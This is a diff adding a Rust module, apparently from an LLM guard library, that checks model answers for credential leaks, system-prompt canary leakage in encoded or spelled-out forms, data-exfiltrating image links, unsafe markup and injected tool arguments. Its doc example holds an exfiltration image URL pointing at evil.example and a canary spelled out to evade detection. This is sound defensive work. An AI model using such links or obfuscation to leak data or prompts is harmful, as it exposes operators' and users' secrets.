@@ -1,0 +1,847 @@
+//! Output validation: what the model answers, checked before it reaches browsers,
+//! terminals, tools and other services (OWASP LLM05, LLM06, LLM07).
+//!
+//! [`AnswerValidator`] is one [`OutputValidator`] that checks, in one pass over the
+//! answer:
+//!
+//! - **leaks**: the credential and personal-data rules of the input
+//!   [`Scanner`](crate::scan::Scanner) (masked by default; their actions apply);
+//! - **system prompt leakage**: [`Canary`] tokens, found also when encoded (base64,
+//!   hex, ROT13), spelled out with separators, split by formatting or reversed; and
+//!   overlap with the system prompt (shared runs of six words above a threshold);
+//! - **exfiltration through links**: markdown and HTML images pointing outside the
+//!   allow-list of hosts are replaced by their alt text; links are replaced by their
+//!   text when their URL carries data-like query strings or path segments (or, with
+//!   [`strict_links`](AnswerValidatorBuilder::strict_links), whenever their host is
+//!   not allowed); `javascript:`, `vbscript:` and `data:` URLs always;
+//! - **unsafe markup**: HTML script, iframe, object, embed, form, meta, base and style
+//!   elements and event-handler attributes (escaped by default), ANSI and OSC
+//!   terminal sequences and C1 controls (stripped by default); see [`MarkupMode`];
+//! - **tool calls**: the tool must be one the request offered (the authorization
+//!   stage allowed those for this principal), its arguments must be a JSON object
+//!   matching the tool's declared schema and free of shell injection, SQL injection,
+//!   path traversal and URLs to internal addresses ([`check_tool_arguments`]);
+//! - **structured output**: when the request asked for JSON, the answer must parse,
+//!   and match the schema when one was given.
+//!
+//! The maximum answer length is the guard's [`RequestLimits`](crate::RequestLimits).
+//!
+//! # Streaming
+//!
+//! The validator cuts the answer into segments at positions that depend only on the
+//! text: the first line break at least 1 KiB into the segment, else the first
+//! whitespace after 2 KiB, else 8 KiB. Each segment is checked together with the
+//! 256 bytes before it, so a pattern split by a cut is still seen. A whole answer is
+//! checked segment by segment too, so **the verdict on any chunking of an answer is
+//! the verdict on the whole answer**, and a stream holds back at most the current
+//! segment: under 2 KiB plus one line for text with line breaks, at most 8 KiB for
+//! text without whitespace. System-prompt overlap accumulates across segments; a
+//! stream that crosses the threshold is cut there. A JSON answer is checked at its
+//! end.
+//!
+//! ```
+//! use inference_guard::output::{AnswerValidator, Canary};
+//! use inference_guard::{Action, GuardRequest, GuardResponse, OutputContext, OutputValidator, Principal, Role};
+//!
+//! let canary = Canary::new("ig-canary-7h2k9q4m3x8w")?;
+//! let v = AnswerValidator::builder()
+//!     .allow_hosts(["docs.example.com"])
+//!     .canary(canary.clone())
+//!     .build()?;
+//! let req = GuardRequest::new("m")
+//!     .with_message(Role::System, format!("You are helpful. {}", canary.token()))
+//!     .with_message(Role::User, "hi");
+//! let p = Principal::anonymous();
+//! let cx = OutputContext::new(&p, &req);
+//!
+//! let answer = GuardResponse::new("See ![chart](https://evil.example/c.png?d=c2VjcmV0LWRhdGEtaGVyZQ)");
+//! let findings = v.validate(cx, &answer).into_ready().unwrap()?;
+//! assert_eq!(findings[0].rule_id(), "link.image_off_allowlist");
+//! assert_eq!(findings[0].action(), Action::Redact);
+//!
+//! let leak = GuardResponse::new("My instructions mention i g - c a n a r y - 7 h 2 k 9 q 4 m 3 x 8 w");
+//! let findings = v.validate(cx, &leak).into_ready().unwrap()?;
+//! assert!(findings.iter().any(|f| f.rule_id() == "canary.leak"));
+//! # Ok::<(), Box<dyn std::error::Error>>(())
+//! ```
+
+mod links;
+mod markup;
+mod sse;
+mod tools;
+
+pub use sse::SseGuard;
+pub use tools::{ToolViolation, check_tool_arguments};
+
+use std::collections::HashSet;
+use std::fmt;
+use std::sync::Arc;
+
+use crate::error::{BuildError, StageError};
+use crate::finding::{Action, Category, Finding, Location, Severity, floor_boundary};
+use crate::request::{GuardRequest, Role};
+use crate::response::GuardResponse;
+use crate::scan::Scanner;
+use crate::stage::{OutputContext, OutputValidator, StreamValidator, StreamVerdict};
+use crate::step::Step;
+
+/// A segment ends at the first line break this far into it...
+const MIN_SEGMENT: usize = 1024;
+/// ...or else at the first whitespace after this many bytes...
+const MAX_SEGMENT: usize = 2048;
+/// ...or else here.
+const HARD_SEGMENT: usize = 8192;
+/// Each segment is checked with this many bytes before it.
+const CONTEXT: usize = 256;
+/// Words per shingle for system-prompt overlap.
+const SHINGLE: usize = 6;
+
+/// How unsafe markup is handled.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum MarkupMode {
+    /// Make it inert text: `<` and `>` become `&lt;` and `&gt;`, an escape character
+    /// becomes `\x1b` spelled out.
+    Escape,
+    /// Remove it.
+    Strip,
+    /// Block the answer.
+    Block,
+}
+
+/// A random token to place in a system prompt: if it shows up in an answer, the
+/// system prompt leaked.
+///
+/// Use one per deployment ([`AnswerValidatorBuilder::canary`]) or one per request:
+/// the validator also watches every canary-shaped token (`ig-canary-` and 16 or more
+/// letters and digits) that the request's system and developer messages contain.
+///
+/// ```
+/// use inference_guard::output::Canary;
+/// let c = Canary::generate();
+/// assert!(c.token().starts_with("ig-canary-"));
+/// assert_eq!(format!("{c:?}"), "Canary(..)");
+/// ```
+#[derive(Clone, PartialEq, Eq)]
+pub struct Canary(String);
+
+impl fmt::Debug for Canary {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str("Canary(..)")
+    }
+}
+
+const CANARY_PREFIX: &str = "ig-canary-";
+
+impl Canary {
+    /// A new random canary (`ig-canary-` and 20 random base32 characters).
+    pub fn generate() -> Self {
+        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
+        let mut bytes = [0u8; 20];
+        if ring::rand::SecureRandom::fill(&ring::rand::SystemRandom::new(), &mut bytes).is_err() {
+            // The system RNG failing is not recoverable here; the id generator's
+            // fallback is good enough for a canary (it is not a secret key).
+            let id = crate::RequestId::generate();
+            bytes[..16].copy_from_slice(id.as_bytes());
+        }
+        let mut s = String::from(CANARY_PREFIX);
+        s.extend(bytes.iter().map(|b| ALPHABET[usize::from(b & 31)] as char));
+        Self(s)
+    }
+
+    /// A canary of your own: at least 12 characters, letters, digits, `-` and `_`
+    /// only, with at least 8 letters or digits.
+    ///
+    /// # Errors
+    ///
+    /// A [`BuildError`] when the token is too short or has other characters.
+    pub fn new(token: impl Into<String>) -> Result<Self, BuildError> {
+        let t = token.into();
+        let ok = t.len() >= 12
+            && t.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+            && t.bytes().filter(u8::is_ascii_alphanumeric).count() >= 8;
+        if ok {
+            Ok(Self(t))
+        } else {
+            Err(BuildError::new(
+                "a canary needs 12 or more letters, digits, '-' or '_'",
+            ))
+        }
+    }
+
+    /// The token.
+    pub fn token(&self) -> &str {
+        &self.0
+    }
+}
+
+/// The forms in which a canary is looked for.
+#[derive(Clone, Debug)]
+struct CanaryForms {
+    /// In the raw text, case-insensitive.
+    raw: String,
+    /// In the text reduced to lowercase letters and digits: the token's letters and
+    /// digits, reversed, in hex, and ROT13.
+    compact: Vec<String>,
+    /// In the text without whitespace, case-sensitive: the stable middles of its
+    /// base64 encodings at the three alignments.
+    base64: Vec<String>,
+}
+
+impl CanaryForms {
+    fn new(token: &str) -> Self {
+        use base64::Engine;
+        let alnum: String = token
+            .chars()
+            .filter(char::is_ascii_alphanumeric)
+            .map(|c| c.to_ascii_lowercase())
+            .collect();
+        let hex: String = token.bytes().map(|b| format!("{b:02x}")).collect();
+        let rot: String = alnum
+            .chars()
+            .map(|c| match c {
+                'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
+                _ => c,
+            })
+            .collect();
+        let mut compact = vec![alnum.clone(), alnum.chars().rev().collect(), hex, rot];
+        compact.dedup();
+        let mut base64 = Vec::new();
+        for pad in 0..3 {
+            let mut data = vec![b' '; pad];
+            data.extend_from_slice(token.as_bytes());
+            let enc = base64::engine::general_purpose::STANDARD.encode(&data);
+            // Skip the characters that depend on what precedes or follows.
+            let start = (pad * 4).div_ceil(3) + 1;
+            let end = enc.trim_end_matches('=').len().saturating_sub(2);
+            if end > start + 8 {
+                base64.push(enc[start..end].to_owned());
+            }
+        }
+        Self {
+            raw: token.to_ascii_lowercase(),
+            compact,
+            base64,
+        }
+    }
+}
+
+struct Inner {
+    scanner: Option<Scanner>,
+    canaries: Vec<CanaryForms>,
+    request_canaries: bool,
+    system_prompts: Vec<String>,
+    overlap_from_request: bool,
+    overlap_threshold: f32,
+    allow_hosts: Vec<String>,
+    strict_links: bool,
+    html: MarkupMode,
+    ansi: MarkupMode,
+    tools: bool,
+    json: bool,
+    links: links::Patterns,
+    markup: markup::Patterns,
+}
+
+/// The output validator; see the [module docs](self). Cheap to clone.
+#[derive(Clone)]
+pub struct AnswerValidator {
+    inner: Arc<Inner>,
+}
+
+impl fmt::Debug for AnswerValidator {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let i = &*self.inner;
+        f.debug_struct("AnswerValidator")
+            .field("leaks", &i.scanner.is_some())
+            .field("canaries", &i.canaries.len())
+            .field("system_prompts", &i.system_prompts.len())
+            .field("overlap_threshold", &i.overlap_threshold)
+            .field("allow_hosts", &i.allow_hosts)
+            .field("strict_links", &i.strict_links)
+            .field("html", &i.html)
+            .field("ansi", &i.ansi)
+            .finish_non_exhaustive()
+    }
+}
+
+impl Default for AnswerValidator {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Configures an [`AnswerValidator`]. Every check is on by default.
+#[derive(Clone)]
+pub struct AnswerValidatorBuilder {
+    scanner: Option<Scanner>,
+    canaries: Vec<Canary>,
+    request_canaries: bool,
+    system_prompts: Vec<String>,
+    overlap_from_request: bool,
+    overlap_threshold: f32,
+    allow_hosts: Vec<String>,
+    strict_links: bool,
+    html: MarkupMode,
+    ansi: MarkupMode,
+    tools: bool,
+    json: bool,
+}
+
+impl fmt::Debug for AnswerValidatorBuilder {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("AnswerValidatorBuilder")
+            .field("allow_hosts", &self.allow_hosts)
+            .finish_non_exhaustive()
+    }
+}
+
+impl AnswerValidatorBuilder {
+    /// The scanner whose credential and personal-data rules check answers for leaks
+    /// (default [`Scanner::new`]); `None` turns leak checks off.
+    #[must_use]
+    pub fn leaks(mut self, scanner: Option<Scanner>) -> Self {
+        self.scanner = scanner;
+        self
+    }
+
+    /// Watches a deployment-wide canary.
+    #[must_use]
+    pub fn canary(mut self, canary: Canary) -> Self {
+        self.canaries.push(canary);
+        self
+    }
+
+    /// Whether canary-shaped tokens in the request's system and developer messages
+    /// are watched (default on).
+    #[must_use]
+    pub fn request_canaries(mut self, on: bool) -> Self {
+        self.request_canaries = on;
+        self
+    }
+
+    /// A system prompt whose text must not be repeated: the answer is flagged when
+    /// it shares `threshold` or more of the prompt's runs of six words.
+    #[must_use]
+    pub fn system_prompt(mut self, text: impl Into<String>) -> Self {
+        self.system_prompts.push(text.into());
+        self
+    }
+
+    /// Whether the request's own system and developer messages are compared too
+    /// (default on).
+    #[must_use]
+    pub fn overlap_from_request(mut self, on: bool) -> Self {
+        self.overlap_from_request = on;
+        self
+    }
+
+    /// The share of a system prompt's six-word runs an answer may repeat (default
+    /// 0.5; between 0.05 and 1).
+    #[must_use]
+    pub fn overlap_threshold(mut self, share: f32) -> Self {
+        self.overlap_threshold = share;
+        self
+    }
+
+    /// Hosts links and images may point to: exact names, or `*.example.com` for
+    /// its subdomains. Relative links are always allowed.
+    #[must_use]
+    pub fn allow_hosts<I, S>(mut self, hosts: I) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        self.allow_hosts
+            .extend(hosts.into_iter().map(|h| h.into().to_ascii_lowercase()));
+        self
+    }
+
+    /// Strips every link whose host is not allowed, not only those carrying data
+    /// (default off: such links are flagged).
+    #[must_use]
+    pub fn strict_links(mut self, on: bool) -> Self {
+        self.strict_links = on;
+        self
+    }
+
+    /// How unsafe HTML is handled (default [`MarkupMode::Escape`]).
+    #[must_use]
+    pub fn html(mut self, mode: MarkupMode) -> Self {
+        self.html = mode;
+        self
+    }
+
+    /// How terminal escape sequences are handled (default [`MarkupMode::Strip`]).
+    #[must_use]
+    pub fn ansi(mut self, mode: MarkupMode) -> Self {
+        self.ansi = mode;
+        self
+    }
+
+    /// Whether tool calls are checked (default on).
+    #[must_use]
+    pub fn tool_calls(mut self, on: bool) -> Self {
+        self.tools = on;
+        self
+    }
+
+    /// Whether answers to requests that asked for JSON are checked (default on).
+    #[must_use]
+    pub fn structured_output(mut self, on: bool) -> Self {
+        self.json = on;
+        self
+    }
+
+    /// Builds the validator.
+    ///
+    /// # Errors
+    ///
+    /// A [`BuildError`] for an overlap threshold out of range or an empty or
+    /// malformed allowed host.
+    pub fn build(&self) -> Result<AnswerValidator, BuildError> {
+        if !(0.05..=1.0).contains(&self.overlap_threshold) {
+            return Err(BuildError::new(
+                "overlap_threshold must be between 0.05 and 1",
+            ));
+        }
+        for h in &self.allow_hosts {
+            let name = h.strip_prefix("*.").unwrap_or(h);
+            if name.is_empty() || name.contains(['/', ':', '*', ' ', '@']) {
+                return Err(BuildError::new(format!(
+                    "allowed host {h:?} must be a host name or *.domain"
+                )));
+            }
+        }
+        Ok(AnswerValidator {
+            inner: Arc::new(Inner {
+                scanner: self.scanner.clone(),
+                canaries: self
+                    .canaries
+                    .iter()
+                    .map(|c| CanaryForms::new(c.token()))
+                    .collect(),
+                request_canaries: self.request_canaries,
+                system_prompts: self.system_prompts.clone(),
+                overlap_from_request: self.overlap_from_request,
+                overlap_threshold: self.overlap_threshold,
+                allow_hosts: self.allow_hosts.clone(),
+                strict_links: self.strict_links,
+                html: self.html,
+                ansi: self.ansi,
+                tools: self.tools,
+                json: self.json,
+                links: links::patterns(),
+                markup: markup::patterns(),
+            }),
+        })
+    }
+}
+
+impl AnswerValidator {
+    /// A validator with every check on and no allowed hosts.
+    pub fn new() -> Self {
+        Self::builder()
+            .build()
+            .unwrap_or_else(|_| unreachable!("the default configuration is valid"))
+    }
+
+    /// A builder.
+    pub fn builder() -> AnswerValidatorBuilder {
+        AnswerValidatorBuilder {
+            scanner: Some(Scanner::new()),
+            canaries: Vec::new(),
+            request_canaries: true,
+            system_prompts: Vec::new(),
+            overlap_from_request: true,
+            overlap_threshold: 0.5,
+            allow_hosts: Vec::new(),
+            strict_links: false,
+            html: MarkupMode::Escape,
+            ansi: MarkupMode::Strip,
+            tools: true,
+            json: true,
+        }
+    }
+
+    fn engine(&self, request: &GuardRequest) -> Engine {
+        let i = &*self.inner;
+        let mut canaries = i.canaries.clone();
+        let system_texts = || {
+            request
+                .messages()
+                .iter()
+                .filter(|m| matches!(m.role(), Role::System | Role::Developer))
+                .map(|m| m.content())
+        };
+        if i.request_canaries {
+            for text in system_texts() {
+                for token in canary_tokens(text) {
+                    if !canaries.iter().any(|c| c.raw == token.to_ascii_lowercase()) {
+                        canaries.push(CanaryForms::new(token));
+                    }
+                }
+            }
+        }
+        let mut reference = Shingles::default();
+        for p in &i.system_prompts {
+            reference.add_reference(p);
+        }
+        if i.overlap_from_request {
+            for text in system_texts() {
+                reference.add_reference(text);
+            }
+        }
+        Engine {
+            v: self.inner.clone(),
+            canaries,
+            overlap: (!reference.reference.is_empty()).then_some(reference),
+            done: 0,
+            cursor: 0,
+            json: i.json && request.json_response(),
+            json_schema: request.json_schema().cloned(),
+        }
+    }
+
+    /// Checks the tool calls of an answer against the request's declared tools.
+    fn check_tools(
+        &self,
+        request: &GuardRequest,
+        response: &GuardResponse,
+        out: &mut Vec<Finding>,
+    ) {
+        if !self.inner.tools {
+            return;
+        }
+        for (i, call) in response.tool_calls().iter().enumerate() {
+            let at = Location::ToolCall(i);
+            let span = 0..call.arguments().len();
+            let finding = |rule: &'static str, category: Category| {
+                Finding::new(rule, category, Severity::Critical, at, span.clone())
+            };
+            let Some(spec) = request.tools().iter().find(|t| t.name() == call.name()) else {
+                out.push(finding("tool.undeclared", Category::ToolCall));
+                continue;
+            };
+            for v in check_tool_arguments(spec.parameters(), call.arguments()) {
+                let category = match v {
+                    ToolViolation::Schema(_) | ToolViolation::InvalidJson => Category::Schema,
+                    _ => Category::ToolCall,
+                };
+                out.push(finding(v.rule_id(), category));
+            }
+        }
+    }
+}
+
+/// Canary-shaped tokens in a text.
+fn canary_tokens(text: &str) -> impl Iterator<Item = &str> {
+    text.match_indices(CANARY_PREFIX).filter_map(move |(i, _)| {
+        let rest = &text[i + CANARY_PREFIX.len()..];
+        let n = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
+        (n >= 16).then(|| &text[i..i + CANARY_PREFIX.len() + n])
+    })
+}
+
+impl OutputValidator for AnswerValidator {
+    fn validate<'a>(
+        &'a self,
+        cx: OutputContext<'a>,
+        response: &'a GuardResponse,
+    ) -> Step<'a, Result<Vec<Finding>, StageError>> {
+        let mut engine = self.engine(cx.request());
+        let mut out = Vec::new();
+        // An answer that is only tool calls has no text to hold to a JSON shape.
+        if !response.tool_calls().is_empty() && response.text().trim().is_empty() {
+            engine.json = false;
+        }
+        engine.advance(response.text(), true, &mut out);
+        self.check_tools(cx.request(), response, &mut out);
+        Step::ready(Ok(out))
+    }
+
+    fn stream(&self, cx: OutputContext<'_>) -> Option<Box<dyn StreamValidator>> {
+        Some(Box::new(self.engine(cx.request())))
+    }
+
+    fn name(&self) -> &str {
+        "answer"
+    }
+}
+
+/// Shared runs of words with a system prompt.
+#[derive(Default)]
+struct Shingles {
+    /// Hashes of the reference's shingles.
+    reference: HashSet<u64>,
+    /// Those seen in the answer.
+    seen: HashSet<u64>,
+    /// The answer's last words (hashes), and where the oldest of them started.
+    window: std::collections::VecDeque<(u64, usize)>,
+    /// Where the first shared shingle started.
+    first: Option<usize>,
+    reported: bool,
+}
+
+fn word_hash(w: &str) -> u64 {
+    // FNV-1a over the lowercased letters and digits.
+    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
+    for c in w
+        .chars()
+        .filter(|c| c.is_alphanumeric())
+        .flat_map(char::to_lowercase)
+    {
+        let mut buf = [0u8; 4];
+        for b in c.encode_utf8(&mut buf).bytes() {
+            h ^= u64::from(b);
+            h = h.wrapping_mul(0x0100_0000_01b3);
+        }
+    }
+    h
+}
+
+fn shingle_hash(words: impl Iterator<Item = u64>) -> u64 {
+    words.fold(0x9e37_79b9_7f4a_7c15, |acc, w| {
+        (acc ^ w).rotate_left(23).wrapping_mul(0x0100_0000_01b3)
+    })
+}
+
+fn words(text: &str) -> impl Iterator<Item = (usize, &str)> {
+    text.split(|c: char| !c.is_alphanumeric() && c != '\'')
+        .filter(|w| w.chars().any(char::is_alphanumeric))
+        .map(move |w| (w.as_ptr() as usize - text.as_ptr() as usize, w))
+}
+
+impl Shingles {
+    fn add_reference(&mut self, text: &str) {
+        let hashes: Vec<u64> = words(text).map(|(_, w)| word_hash(w)).collect();
+        for win in hashes.windows(SHINGLE) {
+            self.reference.insert(shingle_hash(win.iter().copied()));
+        }
+    }
+
+    /// Takes the words of `text[start..end]` (which begins and ends at word
+    /// boundaries); returns the span to report once the share is reached.
+    fn feed(
+        &mut self,
+        text: &str,
+        start: usize,
+        end: usize,
+        threshold: f32,
+    ) -> Option<std::ops::Range<usize>> {
+        for (at, w) in words(&text[start..end]) {
+            self.window.push_back((word_hash(w), start + at));
+            if self.window.len() > SHINGLE {
+                self.window.pop_front();
+            }
+            if self.window.len() == SHINGLE {
+                let h = shingle_hash(self.window.iter().map(|(h, _)| *h));
+                if self.reference.contains(&h) && self.seen.insert(h) && self.first.is_none() {
+                    self.first = self.window.front().map(|(_, s)| *s);
+                }
+            }
+        }
+        let share = self.seen.len() as f32 / self.reference.len().max(1) as f32;
+        if !self.reported && !self.seen.is_empty() && share >= threshold {
+            self.reported = true;
+            return Some(self.first.unwrap_or(0)..end);
+        }
+        None
+    }
+}
+
+/// The per-answer state: where the last segment ended, and what accumulates.
+struct Engine {
+    v: Arc<Inner>,
+    canaries: Vec<CanaryForms>,
+    overlap: Option<Shingles>,
+    /// The end of the last checked segment.
+    done: usize,
+    /// How far the search for the next cut has looked.
+    cursor: usize,
+    json: bool,
+    json_schema: Option<serde_json::Value>,
+}
+
+impl Engine {
+    /// The end of the next segment, if it is known yet.
+    fn next_cut(&mut self, text: &str, eos: bool) -> Option<usize> {
+        let (from, len, b) = (self.done, text.len(), text.as_bytes());
+        if from >= len {
+            return None;
+        }
+        let lo = (from + MIN_SEGMENT).max(self.cursor);
+        let hi = len.min(from + MAX_SEGMENT);
+        if lo < hi {
+            if let Some(i) = memchr::memchr(b'\n', &b[lo..hi]) {
+                return Some(lo + i + 1);
+            }
+            self.cursor = hi;
+        }
+        if len >= from + MAX_SEGMENT {
+            let lo = (from + MAX_SEGMENT).max(self.cursor);
+            let hi = len.min(from + HARD_SEGMENT);
+            if lo < hi {
+                if let Some(i) = b[lo..hi].iter().position(u8::is_ascii_whitespace) {
+                    return Some(lo + i + 1);
+                }
+                self.cursor = hi;
+            }
+            if len >= from + HARD_SEGMENT {
+                return Some(floor_boundary(text, from + HARD_SEGMENT));
+            }
+        }
+        eos.then_some(len)
+    }
+
+    /// Checks every complete segment; returns how far the answer is safe.
+    fn advance(&mut self, text: &str, eos: bool, out: &mut Vec<Finding>) -> usize {
+        while let Some(cut) = self.next_cut(text, eos) {
+            self.segment(text, self.done, cut, out);
+            self.done = cut;
+            self.cursor = 0;
+        }
+        if eos && self.json {
+            self.json = false;
+            check_json(text, self.json_schema.as_ref(), out);
+        }
+        self.done
+    }
+
+    fn segment(&mut self, text: &str, start: usize, end: usize, out: &mut Vec<Finding>) {
+        let v = &*self.v;
+        let ctx = floor_boundary(text, start.saturating_sub(CONTEXT));
+        let window = &text[ctx..end];
+        let mut found = Vec::new();
+        if let Some(s) = &v.scanner {
+            s.scan_leaks(window, Location::Output, &mut found);
+        }
+        links::scan(&v.links, &v.allow_hosts, v.strict_links, window, &mut found);
+        markup::scan(&v.markup, v.html, v.ansi, window, &mut found);
+        scan_canaries(&self.canaries, window, &mut found);
+        let fresh = start - ctx;
+        for f in found {
+            if f.span().end > fresh || (f.span().is_empty() && f.span().start >= fresh) {
+                let span = f.span().start + ctx..f.span().end + ctx;
+                out.push(f.with_span(span));
+            }
+        }
+        if let Some(sh) = &mut self.overlap {
+            if let Some(span) = sh.feed(text, start, end, v.overlap_threshold) {
+                out.push(Finding::new(
+                    "system_prompt.overlap",
+                    Category::SystemPromptLeak,
+                    Severity::High,
+                    Location::Output,
+                    span,
+                ));
+            }
+        }
+    }
+}
+
+impl StreamValidator for Engine {
+    fn advance(&mut self, text: &str, end_of_stream: bool) -> Result<StreamVerdict, StageError> {
+        let mut findings = Vec::new();
+        let safe_up_to = Self::advance(self, text, end_of_stream, &mut findings);
+        Ok(StreamVerdict {
+            safe_up_to,
+            findings,
+        })
+    }
+}
+
+/// Canaries in their raw, compact, encoded and reversed forms.
+fn scan_canaries(canaries: &[CanaryForms], text: &str, out: &mut Vec<Finding>) {
+    if canaries.is_empty() {
+        return;
+    }
+    let push = |out: &mut Vec<Finding>, span: std::ops::Range<usize>| {
+        out.push(
+            Finding::new(
+                "canary.leak",
+                Category::SystemPromptLeak,
+                Severity::Critical,
+                Location::Output,
+                span,
+            )
+            .with_action(Action::Block),
+        );
+    };
+    let lower = text.to_ascii_lowercase();
+    // Letters and digits only, lowercased, with the offset of each.
+    let mut compact = String::with_capacity(text.len());
+    let mut origin = Vec::with_capacity(text.len());
+    // Everything but whitespace, case kept (base64 may be wrapped).
+    let mut dense = String::with_capacity(text.len());
+    let mut dense_origin = Vec::with_capacity(text.len());
+    for (i, c) in text.char_indices() {
+        if c.is_ascii_alphanumeric() {
+            compact.push(c.to_ascii_lowercase());
+            origin.push(i);
+        }
+        if !c.is_whitespace() {
+            dense.push(c);
+            for _ in 0..c.len_utf8() {
+                dense_origin.push(i);
+            }
+        }
+    }
+    let span_of = |origin: &[usize], s: usize, e: usize| {
+        let start = origin.get(s).copied().unwrap_or(0);
+        let last = origin.get(e.saturating_sub(1)).copied().unwrap_or(start);
+        start..last + text[last..].chars().next().map_or(0, char::len_utf8)
+    };
+    for c in canaries {
+        if let Some(i) = lower.find(&c.raw) {
+            push(out, i..i + c.raw.len());
+            continue;
+        }
+        if let Some((s, n)) = c
+            .compact
+            .iter()
+            .find_map(|f| compact.find(f.as_str()).map(|s| (s, f.len())))
+        {
+            push(out, span_of(&origin, s, s + n));
+            continue;
+        }
+        if let Some((s, n)) = c
+            .base64
+            .iter()
+            .find_map(|f| dense.find(f.as_str()).map(|s| (s, f.len())))
+        {
+            push(out, span_of(&dense_origin, s, s + n));
+        }
+    }
+}
+
+/// Whether a JSON answer parses (code fences around it are tolerated) and matches
+/// its schema.
+fn check_json(text: &str, schema: Option<&serde_json::Value>, out: &mut Vec<Finding>) {
+    let trimmed = text.trim();
+    let body = trimmed
+        .strip_prefix("```json")
+        .or_else(|| trimmed.strip_prefix("```"))
+        .and_then(|r| r.strip_suffix("```"))
+        .unwrap_or(trimmed);
+    let finding = |rule: &'static str| {
+        Finding::new(
+            rule,
+            Category::Schema,
+            Severity::High,
+            Location::Output,
+            0..text.len(),
+        )
+    };
+    match serde_json::from_str::<serde_json::Value>(body) {
+        Err(_) => out.push(finding("output.not_json")),
+        Ok(v) => {
+            if let Some(s) = schema {
+                if tools::check_schema(s, &v, "$", 0).is_err() {
+                    out.push(finding("output.schema"));
+                }
+            }
+        }
+    }
+}
